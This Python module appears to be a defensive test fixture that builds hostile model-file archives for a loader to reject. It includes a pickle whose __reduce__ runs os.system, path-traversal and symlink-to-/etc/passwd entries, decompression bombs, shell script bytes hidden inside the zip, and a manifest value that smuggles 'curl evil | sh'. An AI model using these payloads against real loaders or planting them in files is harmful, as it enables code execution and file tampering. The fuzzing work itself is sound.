"""Model files whose archive or manifest lies; hashes and seals fit where there can be any."""

import io
import json
import os
import pickle
import stat
import struct
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

from assay.modelfile import layout
from assay.modelfile.layout import to_json
from attacks.model_parts import described, parts_of, resealed, seal_again, sealed

EVIL = "open-a-shell"


class _Payload:
    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"echo {EVIL}",)


PICKLE = pickle.dumps(_Payload())
_CENTRAL, _END = b"PK\x01\x02", b"PK\x05\x06"


def archive_attacks(base: bytes) -> Iterator[tuple[str, bytes]]:
    """Yield name and bytes of files that no reader may accept.

    Args:
        base: A sound model file.
    """
    parts = parts_of(base)
    for name in layout.PARTS:
        yield f"pickle as {name}", resealed({**parts, name: PICKLE})
    yield from _entries(parts)
    yield from _framing(base)
    yield from _manifests(parts)


def _entries(parts: dict[str, bytes]) -> Iterator[tuple[str, bytes]]:
    """Entries that should not be there, named in the manifest and not."""
    names = {
        "a pickle beside": "weights.pkl",
        "a name that climbs": "../../../tmp/evil.py",
        "an absolute name": "/tmp/evil.py",
        "a drive": "C:\\evil.dll",
        "a folder": "parts/",
        "an empty name": "",
        "a name with a control": "predictor.json\x01.py",
        "another case": "Predictor.json",
    }
    for what, name in names.items():
        yield f"{what}, listed", resealed({**parts, name: PICKLE})
        yield f"{what}, not listed", sealed({**parts, name: PICKLE})
    yield "a link as a part", _written(parts, mode=stat.S_IFLNK | 0o777, target=b"/etc/passwd")
    yield "entries that may be run", _written(parts, mode=stat.S_IFREG | 0o4755)
    yield "a part twice", _written(parts, twice=layout.PREDICTOR)
    yield "compressed parts", _written(parts, compression=zipfile.ZIP_DEFLATED)
    bomb = {**parts, layout.MEMBERS: bytes(5_000_000)}
    yield "a deflate bomb", _written(_listed(bomb), compression=zipfile.ZIP_DEFLATED)
    yield "an lzma bomb", _written(_listed(bomb), compression=zipfile.ZIP_LZMA)
    backwards = [layout.MANIFEST, *reversed(layout.PARTS)]
    yield "parts in another order", resealed({name: parts[name] for name in backwards})
    lacking = {name: part for name, part in parts.items() if name != layout.CORE}
    yield "a part less", resealed(lacking)
    yield "a listed part that is not there", sealed(lacking)
    behind = {name: parts[name] for name in (*layout.PARTS, layout.MANIFEST)}
    yield "the manifest last", sealed(behind)


def _listed(parts: dict[str, bytes]) -> dict[str, bytes]:
    manifest = json.loads(parts[layout.MANIFEST]) | {"parts": described(parts)}
    return {**parts, layout.MANIFEST: to_json(manifest)}


def _written(
    parts: dict[str, bytes],
    *,
    mode: int = 0o644,
    compression: int = zipfile.ZIP_STORED,
    twice: str = "",
    target: bytes | None = None,
) -> bytes:
    """Write a zip archive by the library, with a seal."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, part in parts.items():
            entry = zipfile.ZipInfo(name)
            entry.compress_type = compression if name != layout.MANIFEST else zipfile.ZIP_STORED
            entry.create_system, entry.external_attr = 3, mode << 16
            is_link = target is not None and name == layout.LEDGER
            archive.writestr(entry, target if is_link and target else part)
            if name == twice:
                archive.NameToInfo.pop(name)  # the library would warn
                archive.writestr(zipfile.ZipInfo(name), PICKLE)
        archive.comment = layout.SEAL + b"0" * 64
    return seal_again(buffer.getvalue())


def _framing(base: bytes) -> Iterator[tuple[str, bytes]]:
    """Headers and directory changed in place, bytes put before, between and behind."""
    directory, end = base.index(_CENTRAL), base.rindex(_END)
    second = base.index(b"PK\x03\x04", 4)
    fields = {  # place in a local header, bytes of the field, value
        "a newer zip version": (4, "<H", 99),
        "an encrypted entry": (6, "<H", 1),
        "a data descriptor": (6, "<H", 8),
        "a compressed method": (8, "<H", 8),
        "another time": (10, "<H", 1),
        "another checksum": (14, "<I", 1),
        "a giant packed size": (18, "<I", 0xFFFFFFF0),
        "a giant size": (22, "<I", 0xFFFFFFF0),
        "zip64 sizes": (22, "<I", 0xFFFFFFFF),
        "a long name": (26, "<H", 0xFFFF),
        "a long extra field": (28, "<H", 0xFFFF),
    }
    for what, (place, form, value) in fields.items():
        for which, start in (("first", 0), ("second", second)):
            yield f"{what} in the {which} header", _changed(base, start + place, form, value)
    central = {
        "a compressed method": (10, "<H", 8),
        "a giant packed size": (20, "<I", 0xFFFFFFF0),
        "a giant size": (24, "<I", 0xFFFFFFF0),
        "a comment": (32, "<H", 500),
        "another disk": (34, "<H", 7),
        "a link": (38, "<I", (stat.S_IFLNK | 0o777) << 16),
        "a giant offset": (42, "<I", 0xFFFFFFF0),
        "an overlapping offset": (42, "<I", second),
    }
    for what, (place, form, value) in central.items():
        yield f"{what} in the directory", _changed(base, directory + place, form, value)
    ends = {"no entries": (10, "<H", 0), "65535 entries": (10, "<H", 0xFFFF)}
    ends |= {"a giant directory": (12, "<I", 0xFFFFFFFF), "directory at 0": (16, "<I", 0)}
    for what, (place, form, value) in ends.items():
        yield what, _changed(base, end + place, form, value)
    hidden = b"#!/bin/sh\necho " + EVIL.encode() + b"\n"
    yield "bytes before the archive", seal_again(hidden + base)
    yield "bytes between entries", seal_again(base[:second] + hidden + base[second:])
    yield "bytes before the directory", seal_again(base[:directory] + hidden + base[directory:])
    yield "bytes before the end record", seal_again(base[:end] + hidden + base[end:])
    yield (
        "bytes before the seal",
        seal_again(base[: -layout.SEAL_LENGTH] + hidden + base[-layout.SEAL_LENGTH :]),
    )
    yield "bytes behind the seal", base + hidden
    yield "two models in one", seal_again(base + base)
    yield "a zip64 record", seal_again(base[:end] + b"PK\x06\x06" + bytes(52) + base[end:])


def _changed(data: bytes, place: int, form: str, value: int) -> bytes:
    changed = bytearray(data)
    struct.pack_into(form, changed, place, value)
    return seal_again(bytes(changed))


def _manifests(parts: dict[str, bytes]) -> Iterator[tuple[str, bytes]]:
    """Manifests of wrong types, sizes and versions."""
    sound = json.loads(parts[layout.MANIFEST])
    deep = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    texts = {
        "a deep manifest": deep[:60_000],
        "a manifest of 1 MB": b'{"a":"' + b"x" * 1_000_000 + b'"}',
        "an empty manifest": b"",
        "a manifest that is a list": b"[]",
        "a manifest in UTF-16": json.dumps(sound).encode("utf-16"),
        "a manifest with a key twice": b'{"format":"assay",' + parts[layout.MANIFEST][1:],
        "a manifest with spaces": json.dumps(sound).encode(),
    }
    for what, text in texts.items():
        yield what, sealed({**parts, layout.MANIFEST: text})
    values: dict[str, list[Any]] = {
        "format": ["other", 1, None],
        "format_version": ["1", 0, -1, True, None, 1.0, 10**20, [1]],
        "assay_version": [1, "", "9.9.9 && curl evil | sh", "\x1b[2J9.9.9", "9" * 5000, None],
        "parts": [None, [], {}, "parts"],
    }
    for key, wrong in values.items():
        for value in wrong:
            manifest = {**sound, key: value}
            yield (
                f"{key} = {str(value)[:20]!r}",
                sealed({**parts, layout.MANIFEST: to_json(manifest)}),
            )
    yield "a field more", sealed({**parts, layout.MANIFEST: to_json({**sound, "run": "x"})})
    for key, wrong in {"size": [-1, 2**62, "1", 1.5, True], "sha256": ["", "../x", None]}.items():
        for value in wrong:
            listed = {**sound["parts"], layout.CORE: {**sound["parts"][layout.CORE], key: value}}
            manifest = {**sound, "parts": listed}
            yield (
                f"{key} of a part = {value!r}",
                sealed({**parts, layout.MANIFEST: to_json(manifest)}),
            )
